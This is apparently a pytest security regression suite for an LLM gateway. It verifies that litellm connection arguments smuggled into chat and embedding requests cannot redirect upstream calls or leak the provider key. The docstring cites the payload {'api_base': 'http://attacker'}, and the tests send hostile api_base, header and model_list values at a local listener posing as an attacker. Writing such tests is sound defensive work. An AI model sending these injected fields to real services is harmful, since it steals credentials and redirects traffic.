"""Nothing a caller sends chooses where an upstream call goes or how it authenticates.

litellm takes, beside OpenAI's fields, arguments such as ``api_base``, ``base_url``,
``extra_headers`` or ``aws_region_name``. The litellm provider once passed every unknown body
field to it, so ``{"api_base": "http://attacker"}`` sent the call, with the deployment's
``x-api-key``, wherever a caller pointed it. Here every connection-related argument litellm
accepts (read from litellm itself, not hand-picked) is sent, one at a time and all at once, on
every provider path, and a listener standing in for the attacker must receive nothing.
"""

from __future__ import annotations

import json
import os
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import FakeHandle

from gateway.providers.openai_fields import CHAT_FIELDS, EMBEDDING_FIELDS, WITHHELD
from support.gateway_proc import PROVIDER_KEY, GatewayConfig, GatewayProcess, default_models

pytestmark = pytest.mark.slow

SPEC = Path(__file__).resolve().parents[2] / "shared" / "openai" / "openapi.json"

# Argument names that say where a call goes or how it authenticates.
_CONNECTION = re.compile(
    r"base|url|endpoint|host|key|token|secret|header|region|provider|credential|auth|password|username"
    r"|client|proxy|tenant|project|location|session|ssl|version|deployment|model_list|aws|vertex|azure"
    r"|bedrock|sagemaker|watsonx|account|role|profile|identity|organization|workspace|federation"
)


class Listener:
    """A TCP server standing in for an attacker's host: it records whatever connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                self.received.append(conn.recv(65536) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")
            finally:
                conn.close()

    def close(self) -> None:
        self.sock.close()


# Where litellm's cloud providers read their credentials, regions and endpoints from kwargs.
_PROVIDER_MODULES = ("llms/bedrock/base_aws_llm.py", "llms/vertex_ai/vertex_llm_base.py", "llms/azure/common_utils.py")


def litellm_arguments() -> set[str]:
    """Every keyword litellm's completion and embedding take, its known litellm params, and
    the provider credentials its AWS, Vertex and Azure code reads out of those kwargs."""
    os.environ.setdefault("LITELLM_LOCAL_MODEL_COST_MAP", "True")
    import inspect

    import litellm
    from litellm.types.utils import all_litellm_params

    names = set(all_litellm_params)
    for function in (litellm.completion, litellm.acompletion, litellm.embedding, litellm.aembedding):
        names.update(inspect.signature(function).parameters)
    package = Path(litellm.__file__).parent
    for module in _PROVIDER_MODULES:
        source = (package / module).read_text()
        names.update(re.findall(r'"((?:aws|vertex|azure)_[a-z_]+)"', source))
    return {name for name in names if name not in ("self", "kwargs", "args")}


def connection_arguments() -> list[str]:
    """litellm's arguments that choose a target or a credential; not OpenAI's own fields (the
    gateway validates and passes those), nor litellm's price overrides (``*_cost_*``)."""
    return sorted(
        name for name in litellm_arguments()
        if _CONNECTION.search(name) and "cost" not in name and "uplift" not in name
        and name not in CHAT_FIELDS | EMBEDDING_FIELDS
    )


def hostile_value(name: str, url: str) -> Any:
    if "header" in name:
        return {"x-steer": "1", "Host": url.removeprefix("http://")}
    if name == "model_list":
        return [{"model_name": "claude", "litellm_params": {"model": "openai/x", "api_base": url, "api_key": "k"}}]
    if name.endswith("provider"):
        return "openai"
    return url


def test_the_allow_lists_are_openais_fields_and_never_litellms_own() -> None:
    os.environ.setdefault("LITELLM_LOCAL_MODEL_COST_MAP", "True")
    from litellm.types.utils import all_litellm_params

    # litellm's own parameters (targets, credentials, callbacks, routing) are never passed on.
    assert not (CHAT_FIELDS | EMBEDDING_FIELDS) & set(all_litellm_params)
    assert "metadata" not in CHAT_FIELDS  # litellm reads its own `metadata`
    arguments = connection_arguments()
    assert {"api_base", "base_url", "api_key", "extra_headers", "custom_llm_provider", "aws_region_name",
            "vertex_project", "azure_ad_token"} <= set(arguments), "litellm's argument list was read"
    assert len(arguments) > 60


def spec_properties(spec: dict[str, Any], name: str) -> set[str]:
    schemas = spec["components"]["schemas"]
    found: set[str] = set()

    def walk(node: dict[str, Any]) -> None:
        if "$ref" in node:
            walk(schemas[node["$ref"].rsplit("/", 1)[-1]])
            return
        for sub in node.get("allOf", []):
            walk(sub)
        found.update(node.get("properties", {}))

    walk(schemas[name])
    return found


@pytest.mark.skipif(not SPEC.exists(), reason="../shared/openai/openapi.json is not beside this checkout")
def test_the_allow_lists_match_openais_spec() -> None:
    spec = json.loads(SPEC.read_text())
    for schema, fields in (("CreateChatCompletionRequest", CHAT_FIELDS), ("CreateEmbeddingRequest", EMBEDDING_FIELDS)):
        assert fields == spec_properties(spec, schema) - WITHHELD[schema], schema


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture(scope="module")
def steering_gateway(tmp_path_factory: pytest.TempPathFactory, fake_upstream: FakeHandle) -> Iterator[GatewayProcess]:
    root = tmp_path_factory.mktemp("steering")
    models = default_models(fake_upstream.url)
    upstream = {"api_key": "${TEST_PROVIDER_KEY}", "timeout_s": 10, "retries": 0}
    models["aliases"]["claude"] = {"deployments": [
        {"provider": "anthropic", "model": "claude-haiku-4-5", "base_url": fake_upstream.url, **upstream}]}
    models["aliases"]["vllm-chat"] = {"deployments": [
        {"provider": "hosted_vllm", "model": "gpt-4o-mini", "base_url": f"{fake_upstream.url}/v1", **upstream}]}
    models["aliases"]["vllm-embed"] = {"kind": "embedding", "deployments": [
        {"provider": "hosted_vllm", "model": "text-embedding-3-small", "base_url": f"{fake_upstream.url}/v1",
         **upstream}]}
    proc = GatewayProcess(GatewayConfig(root=root, upstream=fake_upstream.url,
                                        database_url=f"sqlite:///{root / 'g.db'}", models=models)).start()
    yield proc
    proc.stop()


@pytest.fixture(scope="module")
def key(steering_gateway: GatewayProcess) -> str:
    return steering_gateway.create_key("alpha")


CHAT_MODELS = ["claude", "vllm-chat", "fake-chat", "mock"]  # litellm x2, OpenAI-compatible, mock
EMBED_MODELS = ["vllm-embed", "fake-embed", "mock-embed"]
LITELLM_MODELS = {"claude", "vllm-chat", "vllm-embed"}


def send(gateway: GatewayProcess, key: str, path: str, body: dict[str, Any]) -> httpx.Response:
    return httpx.post(f"{gateway.url}/v1/{path}", json=body, headers={"authorization": f"Bearer {key}"}, timeout=30)


@pytest.mark.parametrize("model", CHAT_MODELS)
def test_no_litellm_argument_steers_a_chat_call(
    model: str, steering_gateway: GatewayProcess, key: str, listener: Listener, fake: FakeHandle
) -> None:
    base = {"model": model, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 5}
    names = connection_arguments()
    everything = {name: hostile_value(name, listener.url) for name in names}
    for stream in (False, True):
        # One at a time on the litellm paths, the ones that hand arguments to litellm: no argument
        # may hide behind another's error. All at once everywhere.
        for name in names if model in LITELLM_MODELS else ():
            response = send(steering_gateway, key, "chat/completions",
                            {**base, "stream": stream, name: everything[name]})
            assert response.status_code == 200, (name, response.text)
        response = send(steering_gateway, key, "chat/completions", {**base, "stream": stream, **everything})
        assert response.status_code == 200, response.text
        assert PROVIDER_KEY not in response.text
    assert listener.received == []


@pytest.mark.parametrize("model", EMBED_MODELS)
def test_no_litellm_argument_steers_an_embeddings_call(
    model: str, steering_gateway: GatewayProcess, key: str, listener: Listener, fake: FakeHandle
) -> None:
    everything = {name: hostile_value(name, listener.url) for name in connection_arguments()}
    for name, value in everything.items() if model in LITELLM_MODELS else ():
        response = send(steering_gateway, key, "embeddings", {"model": model, "input": "hi", name: value})
        assert response.status_code == 200, (name, response.text)
    response = send(steering_gateway, key, "embeddings", {"model": model, "input": "hi", **everything})
    assert response.status_code == 200 and PROVIDER_KEY not in response.text
    assert listener.received == []


def test_openais_own_fields_still_reach_a_litellm_upstream(
    steering_gateway: GatewayProcess, key: str, fake: FakeHandle, listener: Listener
) -> None:
    tools = [{"type": "function", "function": {"name": "lookup", "parameters": {"type": "object"}}}]
    response = send(steering_gateway, key, "chat/completions", {
        "model": "vllm-chat", "messages": [{"role": "user", "content": "hi"}], "temperature": 0.25,
        "seed": 7, "tools": tools, "api_base": listener.url, "extra_headers": {"x-steer": "1"},
    })
    assert response.status_code == 200, response.text
    sent = fake.stats()["last_request"]
    assert sent["body"]["temperature"] == 0.25 and sent["body"]["seed"] == 7
    assert sent["body"]["tools"][0]["function"]["name"] == "lookup"
    assert "x-steer" not in sent["headers"] and "api_base" not in sent["body"]
    assert sent["headers"]["authorization"] == f"Bearer {PROVIDER_KEY}"  # the deployment's own key
    assert listener.received == []


def test_the_provider_key_never_reaches_the_log(steering_gateway: GatewayProcess) -> None:
    assert PROVIDER_KEY not in steering_gateway.log()
